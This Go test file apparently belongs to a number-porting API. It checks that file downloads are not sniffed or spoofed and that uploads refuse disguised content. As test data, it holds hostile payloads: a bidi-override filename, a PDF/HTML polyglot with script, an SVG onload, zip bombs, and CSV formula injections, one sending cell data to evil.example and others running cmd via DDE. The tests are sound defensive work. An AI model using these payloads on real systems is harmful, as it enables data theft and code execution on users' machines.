package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"strings"
	"testing"
	"unicode"
)

// uploadPart posts a multipart upload whose file part carries the given
// Content-Disposition parameters verbatim (e.g. an RFC 2231 filename*).
func (c *client) uploadPart(key, orderID, docType, fileParams string, content []byte) response {
	c.t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	_ = mw.WriteField("type", docType)
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", `form-data; name="file"; `+fileParams)
	h.Set("Content-Type", "application/octet-stream")
	fw, err := mw.CreatePart(h)
	if err != nil {
		c.t.Fatal(err)
	}
	_, _ = fw.Write(content)
	_ = mw.Close()
	req, _ := http.NewRequest("POST", c.base+"/v1/port-orders/"+orderID+"/documents", &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+key)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return response{Status: resp.StatusCode, ContentType: resp.Header.Get("Content-Type"), Body: b}
}

// download GETs a file and returns its headers and content.
func (c *client) download(key, path string) (http.Header, []byte) {
	c.t.Helper()
	req, _ := http.NewRequest("GET", c.base+path, nil)
	req.Header.Set("Authorization", "Bearer "+key)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		c.t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
	}
	return resp.Header, b
}

// spoofingRune reports characters a filename shown to a person must not
// hold: controls (CR, LF), format characters (bidi overrides, zero-width)
// and quotes.
func spoofingRune(r rune) bool {
	return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) || r == '"' || r == '\\'
}

// TestDownloadsAreNotSniffedOrSpoofed is issue 8 item 12 (downloads): every
// file answer says nosniff, and its Content-Disposition names a filename
// without bidi controls, quotes or line breaks, with an ASCII fallback and
// an RFC 6266 filename* for the rest.
func TestDownloadsAreNotSniffedOrSpoofed(t *testing.T) {
	_, c := testServer(t, "", false)
	_, key, inst := setupCustomer(t, c, "Alpha", "premium")
	id := str(t, c.must(http.StatusCreated, "POST", "/v1/port-requests", key, premiumRequest(inst, "+12125550123")), "port_orders", 0, "id")

	// "Rechnung "März"<RLO><CR><LF>fdp.pdf": shown as "...pdf.exe"-style
	// spoofing once the override reverses the tail.
	r := c.uploadPart(key, id, "invoice", `filename*=utf-8''Rechnung%20%22M%C3%A4rz%22%E2%80%AE%0D%0Afdp.pdf`, fakePDF("bidi"))
	if r.Status != http.StatusCreated {
		t.Fatalf("upload: %d %s", r.Status, r.Body)
	}
	doc := r.JSON(t)
	if name := str(t, doc, "filename"); strings.ContainsFunc(name, spoofingRune) || !strings.Contains(name, "März") {
		t.Errorf("stored filename %q: want the name without controls, bidi or quotes, its letters kept", name)
	}

	paths := []string{
		"/v1/port-orders/" + id + "/documents/" + str(t, doc, "id"),
		"/v1/port-orders/" + id + "/loa.pdf",
		"/v1/port-orders/" + id + "/loa-attachment.xlsx",
		"/v1/port-orders/" + id + "/loa-attachment.csv",
	}
	for _, p := range paths {
		h, _ := c.download(key, p)
		if got := h.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q, want nosniff", p, got)
		}
		cd := h.Get("Content-Disposition")
		disp, params, err := mime.ParseMediaType(cd)
		if err != nil || disp != "attachment" || params["filename"] == "" {
			t.Errorf("%s: Content-Disposition %q (%v), want an attachment with a filename", p, cd, err)
			continue
		}
		if strings.ContainsFunc(params["filename"], spoofingRune) || strings.Contains(strings.ToUpper(cd), "%E2%80%AE") {
			t.Errorf("%s: Content-Disposition %q names %q, which holds a control, bidi or quote character", p, cd, params["filename"])
		}
		fallback, _, _ := strings.Cut(cd[strings.Index(cd, "filename=")+len("filename="):], ";")
		if !strings.Contains(cd, "filename=") || strings.ContainsFunc(fallback, func(r rune) bool { return r > unicode.MaxASCII }) {
			t.Errorf("%s: Content-Disposition %q lacks a plain ASCII filename= fallback", p, cd)
		}
	}
	h, _ := c.download(key, paths[0])
	cd := h.Get("Content-Disposition")
	if !strings.Contains(strings.ToLower(cd), "filename*=utf-8''") {
		t.Errorf("Content-Disposition %q: want an RFC 6266 filename* for the non-ASCII name", cd)
	}
	if _, params, _ := mime.ParseMediaType(cd); !strings.Contains(params["filename"], "März") {
		t.Errorf("Content-Disposition %q: the non-ASCII name is lost (%q)", cd, params["filename"])
	}
}

// zipFile is one entry of a hand-made archive: its content, or, when raw
// is set, deflated bytes stored with a declared uncompressed size.
type zipFile struct {
	name     string
	content  []byte
	raw      []byte
	declared uint64
}

func makeZip(t *testing.T, files ...zipFile) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range files {
		var (
			w   io.Writer
			err error
		)
		if f.raw != nil {
			w, err = zw.CreateRaw(&zip.FileHeader{Name: f.name, Method: zip.Deflate,
				CompressedSize64: uint64(len(f.raw)), UncompressedSize64: f.declared})
			if err == nil {
				_, err = w.Write(f.raw)
			}
		} else {
			w, err = zw.Create(f.name)
			if err == nil {
				_, err = w.Write(f.content)
			}
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func deflate(t *testing.T, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	fw, _ := flate.NewWriter(&buf, flate.BestCompression)
	_, _ = fw.Write(b)
	if err := fw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestUploadRefusesDisguisedContent is issue 8 item 12 (uploads): a PDF
// that is also HTML, a spreadsheet that inflates far beyond its size, and
// a number list whose cells a spreadsheet would run as formulas are
// refused; their honest neighbours are accepted.
func TestUploadRefusesDisguisedContent(t *testing.T) {
	_, c := testServer(t, "", false)
	_, key, inst := setupCustomer(t, c, "Alpha", "premium")
	id := str(t, c.must(http.StatusCreated, "POST", "/v1/port-requests", key, premiumRequest(inst, "+12125550123")), "port_orders", 0, "id")
	_, xlsx := c.download(key, "/v1/port-orders/"+id+"/loa-attachment.xlsx")
	workbook := zipFile{name: "xl/workbook.xml", content: []byte(`<workbook/>`)}
	var sheet []byte // 100,000 numbers, about 8 MiB inflated
	for i := range 100_000 {
		sheet = fmt.Appendf(sheet, `<row r="%d"><c r="A%d" t="inlineStr"><is><t>+1212%07d</t></is></c></row>`, i+1, i+1, i*7919%10_000_000)
	}

	tests := []struct {
		name, typ string
		content   []byte
		want      int
	}{
		{"pdf", "invoice", fakePDF("honest"), http.StatusCreated},
		{"pdf that is html", "invoice", []byte("%PDF-1.4\n<html><body><script>fetch('/v1/accounts')</script></body></html>\n%%EOF\n"), http.StatusUnprocessableEntity},
		{"pdf with a doctype", "loa_signed", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n<!DOCTYPE html><p>hi</p>\n"), http.StatusUnprocessableEntity},
		{"pdf with svg", "invoice", []byte("%PDF-1.4\n<svg onload=alert(1)>\n"), http.StatusUnprocessableEntity},
		{"portdesk's own xlsx", "number_list", xlsx, http.StatusCreated},
		{"xlsx of 100,000 numbers", "number_list", makeZip(t, workbook, zipFile{name: "xl/worksheets/sheet1.xml", content: sheet}), http.StatusCreated},
		{"xlsx bomb", "number_list", makeZip(t, workbook, zipFile{name: "xl/worksheets/sheet1.xml", content: make([]byte, 64<<20)}), http.StatusUnprocessableEntity},
		{"xlsx declaring 3 GiB", "number_list", makeZip(t, workbook, zipFile{name: "xl/worksheets/sheet1.xml", raw: deflate(t, sheet), declared: 3 << 30}), http.StatusUnprocessableEntity},
		{"csv of numbers", "number_list", []byte("number,carrier\n+12125550123,Old Telco\n-1,x\n"), http.StatusCreated},
		{"csv with =formula", "number_list", []byte("number,carrier\n+12125550123,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n"), http.StatusUnprocessableEntity},
		{"csv with @formula", "number_list", []byte("number\n@SUM(1+1)*cmd|' /C calc'!A0\n"), http.StatusUnprocessableEntity},
		{"csv with +formula", "number_list", []byte("number\n+1+cmd|' /C calc'!A0\n"), http.StatusUnprocessableEntity},
		{"csv with -formula", "number_list", []byte("number\n-2+3+cmd|' /C calc'!A0\n"), http.StatusUnprocessableEntity},
		{"csv with tab formula", "number_list", []byte("number\n\"\t=1+1\"\n"), http.StatusUnprocessableEntity},
	}
	for _, tt := range tests {
		r := c.upload(key, id, tt.typ, "f", tt.content)
		if r.Status != tt.want {
			t.Errorf("%s: %d %s, want %d", tt.name, r.Status, truncate(r.Body), tt.want)
		}
	}
}
